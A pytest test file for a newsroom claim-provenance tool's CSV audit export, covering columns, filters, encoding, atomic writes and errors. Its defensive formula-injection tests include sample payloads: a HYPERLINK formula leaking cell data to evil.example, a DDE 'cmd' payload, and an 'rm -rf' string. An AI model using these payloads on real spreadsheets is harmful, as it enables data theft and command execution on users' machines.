"""`provenance export csv`: the audit report's rows, filters, encoding, safety and files."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine
from typer.testing import Result

from provenance.db.engine import session_scope
from provenance.db.models import Citation
from provenance.export.csv import CLAIM_COLUMNS, HISTORY_COLUMNS, SafeWriter, _links, write_csv
from provenance.export.rows import iso, iter_claims
from provenance.queries import ClaimFilter
from tests.export_data import EVIDENCE, Desk, seed_newsroom

Cli = Callable[..., Result]


@pytest.fixture
def ids(engine: Engine) -> dict[str, int]:
    return seed_newsroom(engine)


def rows(result: Result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8"), newline="")))


def test_one_row_per_claim_with_the_documented_columns(cli: Cli, ids: dict[str, int]) -> None:
    result = cli("export", "csv")
    table = rows(result)
    header = result.stdout.splitlines()[0]
    assert header.split(",") == list(CLAIM_COLUMNS)
    assert [int(r["claim_id"]) for r in table] == sorted(
        ids[k] for k in ("engineers", "entered", "sappers", "estimate", "year")
    )
    by_id = {int(r["claim_id"]): r for r in table}

    engineers = by_id[ids["engineers"]]
    assert engineers["article_id"] == str(ids["kursk"])
    assert engineers["article_title"] == "North Korean Engineers Begin Demining in Kursk"
    assert engineers["article_url"] == "https://example.org/kursk"
    assert engineers["sentence_number"] == "3"
    assert engineers["claim_text"].endswith("Russia\u2019s Kursk region")
    assert engineers["chain"] == "The Moscow Times > Krasnaya Zvezda"
    assert engineers["first_source"] == "The Moscow Times"
    assert engineers["origin_source"] == "Krasnaya Zvezda"
    assert engineers["chain_depth"] == "2"
    assert engineers["status"] == "disputed"
    assert engineers["last_reviewer"] == "Boris Checker"
    assert engineers["last_reviewed_at"] == "2026-11-21T14:05:07Z"
    assert engineers["note"] == "Satellite images show no activity; Россия не подтверждает"
    assert engineers["evidence"].split(" ") == list(EVIDENCE)
    assert engineers["review_count"] == "2"
    assert re.fullmatch(r"[0-9a-f]{64}", engineers["last_review_hash"])

    own = by_id[ids["entered"]]
    assert (own["chain"], own["first_source"], own["origin_source"]) == ("", "", "")
    assert own["chain_depth"] == "0"
    assert (own["status"], own["review_count"], own["last_reviewer"]) == ("unreviewed", "0", "")

    assert by_id[ids["estimate"]]["origin_source"] == "unnamed source"
    assert by_id[ids["sappers"]]["last_review_hash"] != engineers["last_review_hash"]


def test_history_has_one_row_per_review_oldest_first(cli: Cli, ids: dict[str, int]) -> None:
    result = cli("export", "csv", "--history")
    table = rows(result)
    assert result.stdout.splitlines()[0].split(",") == list(HISTORY_COLUMNS)
    assert [(int(r["claim_id"]), r["verdict"], r["reviewer"]) for r in table] == [
        (ids["engineers"], "verified", "Ana Reviewer"),
        (ids["engineers"], "disputed", "Boris Checker"),
        (ids["sappers"], "verified", "Ana Reviewer"),
    ]
    first, second = table[0], table[1]
    assert second["prev_hash"] == first["hash"]
    assert int(second["review_id"]) > int(first["review_id"])
    assert (first["claim_version"], second["claim_version"]) == ("2", "3")
    assert second["reviewed_at"] == "2026-11-21T14:05:07Z"
    assert second["chain"] == "The Moscow Times > Krasnaya Zvezda"
    assert second["evidence"].split(" ") == list(EVIDENCE)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (("--source", "Moscow Times"), ("engineers", "year")),
        (("--source", "the moscow times", "--direct"), ("engineers", "year")),
        (("--source", "The Moscow Times", "--origin"), ("year",)),
        (("--source", "Krasnaya Zvezda", "--origin"), ("engineers",)),
        (("--source", "Krasnaya Zvezda", "--direct"), ()),
        (("--status", "verified"), ("sappers",)),
        (("--status", "unreviewed", "--source", "Moscow Times"), ("year",)),
    ],
)
def test_filters_are_those_of_claims(
    cli: Cli, ids: dict[str, int], args: tuple[str, ...], expected: tuple[str, ...]
) -> None:
    table = rows(cli("export", "csv", *args))
    assert [int(r["claim_id"]) for r in table] == sorted(ids[name] for name in expected)


def test_article_filter(cli: Cli, ids: dict[str, int]) -> None:
    table = rows(cli("export", "csv", "--article", str(ids["later"])))
    assert [int(r["claim_id"]) for r in table] == [ids["year"]]


def test_rfc4180_utf8_and_the_excel_bom(cli: Cli, ids: dict[str, int]) -> None:
    plain = cli("export", "csv").stdout_bytes
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert plain.count(b"\r\n") == 6  # header + five claims, every line ended by CRLF
    assert b"\n" not in plain.replace(b"\r\n", b"")
    assert "Россия не подтверждает".encode() in plain  # UTF-8, not escaped
    excel = cli("export", "csv", "--excel").stdout_bytes
    assert excel == b"\xef\xbb\xbf" + plain


def test_a_quoted_field_keeps_commas_quotes_and_newlines(engine: Engine, cli: Cli) -> None:
    text = 'He said "yes", then\r\nleft, twice'
    with session_scope(engine) as s:
        desk = Desk(s)
        desk.claim(desk.article(), text)
    raw = cli("export", "csv").stdout_bytes
    assert b'"He said ""yes"", then\r\nleft, twice"' in raw
    assert rows(cli("export", "csv"))[0]["claim_text"] == text


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
    "+33 1 23 45 67 89 was the number given",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
]


def test_no_formula_survives_and_text_stays_readable(engine: Engine, cli: Cli) -> None:
    with session_scope(engine) as s:
        desk = Desk(s)
        article = desk.article(title="=IMPORTXML(A1)", url="@evil", publisher="+x")
        for text in FORMULAS:
            claim = desk.claim(article, text, [("=Evil Corp", "organisation", "said", None)])
            desk.review(claim, "disputed", reviewer="-rm -rf", note="\t=2*3", evidence=["=x"])
    for args in ((), ("--history",)):
        table = rows(cli("export", "csv", *args))
        assert len(table) == len(FORMULAS)
        for row in table:
            for value in row.values():
                assert_inert(value)
        assert [readable(row["claim_text"]) for row in table] == FORMULAS
        assert {readable(row["chain"]) for row in table} == {"=Evil Corp"}
        assert {readable(row["article_title"]) for row in table} == {"=IMPORTXML(A1)"}
        assert {readable(row["note"]) for row in table} == {"\t=2*3"}


DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_inert(cell: str) -> None:
    """A cell no spreadsheet would read as a formula (a plain negative number is fine)."""
    if re.fullmatch(r"-?[0-9,.]+", cell):
        return
    assert not cell.startswith(DANGEROUS), cell


def readable(cell: str) -> str:
    """What a reader sees once the neutralising quote (and pipe escape) is taken off."""
    if cell.startswith("'"):
        return cell[1:].replace("\\|", "|")
    return cell


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n|%'\"a1 ,;"), max_size=12))
def test_any_text_round_trips_inert(text: str) -> None:
    buffer = io.StringIO(newline="")
    SafeWriter(buffer).writerow([1, None, text, "plain"])
    (_, _, cell, _) = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert_inert(cell)
    if cell != text:
        assert readable(cell) == text


def test_batches_do_not_mix_chains_or_reviews(engine: Engine, ids: dict[str, int]) -> None:
    with session_scope(engine, write=False) as s:
        whole = list(iter_claims(s))
        in_pairs = list(iter_claims(s, batch=2))
    assert in_pairs == whole
    assert [len(c.chain) for c in whole] == [2, 0, 1, 1, 1]


def test_out_writes_the_file_and_replaces_an_old_one(
    cli: Cli, ids: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "audit.csv"
    target.write_text("old report")
    result = cli("export", "csv", "--out", str(target), "--status", "verified")
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    content = target.read_bytes().decode("utf-8")
    assert content.startswith("claim_id,")
    assert content.count("\r\n") == 2
    assert sorted(p.name for p in tmp_path.iterdir() if "audit" in p.name) == ["audit.csv"]


def test_failed_export_leaves_no_half_file(cli: Cli, ids: dict[str, int], tmp_path: Path) -> None:
    target = tmp_path / "audit.csv"
    target.write_text("old report")
    result = cli("export", "csv", "--out", str(target), "--source", "Moscow Tims")
    assert result.exit_code == 3
    assert result.stderr.strip().count("\n") == 0
    assert "no source named 'Moscow Tims'" in result.stderr
    assert "did you mean 'The Moscow Times'" in result.stderr
    assert target.read_text() == "old report"
    assert sorted(p.name for p in tmp_path.iterdir() if "audit" in p.name) == ["audit.csv"]

    fresh = tmp_path / "fresh.csv"
    assert cli("export", "csv", "--out", str(fresh), "--status", "bogus").exit_code == 2
    assert not fresh.exists()
    assert not [p for p in tmp_path.iterdir() if "fresh" in p.name]


@pytest.mark.parametrize("where", ["missing/dir/audit.csv", ".", "a-file/audit.csv"])
def test_unwritable_out_is_a_one_line_error(
    cli: Cli, ids: dict[str, int], tmp_path: Path, where: str
) -> None:
    (tmp_path / "a-file").write_text("")
    result = cli("export", "csv", "--out", str(tmp_path / where))
    assert result.exit_code == 2
    assert result.stdout == ""
    message = result.stderr.strip()
    assert message.startswith("error: ")
    assert "\n" not in message
    assert "Traceback" not in result.output


def test_unwritable_directory(cli: Cli, ids: dict[str, int], tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if _can_write(locked):
            pytest.skip("running as a user who can write anywhere (root)")
        result = cli("export", "csv", "--out", str(locked / "audit.csv"))
    finally:
        locked.chmod(0o700)
    assert result.exit_code == 2
    assert result.stderr.strip() == f"error: cannot write {locked / 'audit.csv'}: Permission denied"


def _can_write(folder: Path) -> bool:
    try:
        (folder / "probe").write_text("")
    except PermissionError:
        return False
    (folder / "probe").unlink()
    return True


def test_direct_and_origin_together_are_refused(cli: Cli, ids: dict[str, int]) -> None:
    result = cli("export", "csv", "--source", "Moscow Times", "--direct", "--origin")
    assert result.exit_code == 2
    assert result.stderr.strip() == "error: --direct and --origin exclude each other"


def test_library_writes_to_any_text_stream(engine: Engine, ids: dict[str, int]) -> None:
    buffer = io.StringIO(newline="")
    with session_scope(engine, write=False) as s:
        count = write_csv(s, buffer, ClaimFilter(status="disputed"))
    assert count == 1
    assert buffer.getvalue().splitlines()[1].startswith(f"{ids['engineers']},")


def test_chain_follows_depth_not_insertion_order(engine: Engine, cli: Cli) -> None:
    with session_scope(engine) as s:
        desk = Desk(s)
        claim = desk.claim(desk.article(), "Mines cover 2,000 square kilometres")
        for depth, name in reversed(list(enumerate(["Reuters", "TASS", "Ministry", "Shoigu"]))):
            source = desk.source(name, "outlet")
            s.add(Citation(claim_id=claim.id, depth=depth, source_id=source.id, cue="citing"))
            s.flush()
    (row,) = rows(cli("export", "csv"))
    assert row["chain"] == "Reuters > TASS > Ministry > Shoigu"
    assert (row["first_source"], row["origin_source"], row["chain_depth"]) == (
        "Reuters",
        "Shoigu",
        "4",
    )


def test_each_text_column_is_neutralised_on_its_own(engine: Engine, cli: Cli) -> None:
    """One dangerous cell per row: the report must not miss a column it checks for."""
    bad = "=2+5"
    plain = ("Plain source", "outlet", "said", None)
    cases = {
        "article_title": {"title": bad},
        "article_url": {"url": bad},
        "claim_text": {"text": bad},
        "first_source": {"chain": [(bad, "outlet", "said", None), plain]},
        "origin_source": {"chain": [plain, (bad, "outlet", "said", None)]},
        "last_reviewer": {"reviewer": bad},
        "note": {"note": bad},
        "evidence": {"evidence": [bad]},
    }
    with session_scope(engine) as s:
        desk = Desk(s)
        for column, case in cases.items():
            article = desk.article(title=case.get("title", column), url=case.get("url", "u"))
            claim = desk.claim(article, case.get("text", column), case.get("chain", [plain]))
            desk.review(
                claim,
                "verified",
                reviewer=case.get("reviewer", "Ana"),
                note=case.get("note", "fine"),
                evidence=case.get("evidence", ["https://example.org"]),
            )
    table = rows(cli("export", "csv"))
    for row, column in zip(table, cases, strict=True):
        assert row[column] == "'" + bad, column
        for value in row.values():
            assert_inert(value)


@given(st.lists(st.text(alphabet=st.sampled_from('ab"\\/: é'), max_size=6), max_size=3))
def test_evidence_links_whatever_json_they_were_stored_as(links: list[str]) -> None:
    expected = " ".join(link for link in links if link)
    assert _links(json.dumps(links)) == expected
    assert _links(json.dumps(links, separators=(",", ":"), ensure_ascii=False)) == expected


def test_review_times_are_utc_to_the_second() -> None:
    moscow = timezone(timedelta(hours=3))
    assert iso(datetime(2026, 11, 21, 17, 5, 7, 999_999, tzinfo=moscow)) == "2026-11-21T14:05:07Z"
    assert iso(datetime(2026, 11, 21, 14, 5, 7, 500)) == "2026-11-21T14:05:07Z"  # naive = UTC
    assert iso(None) == ""
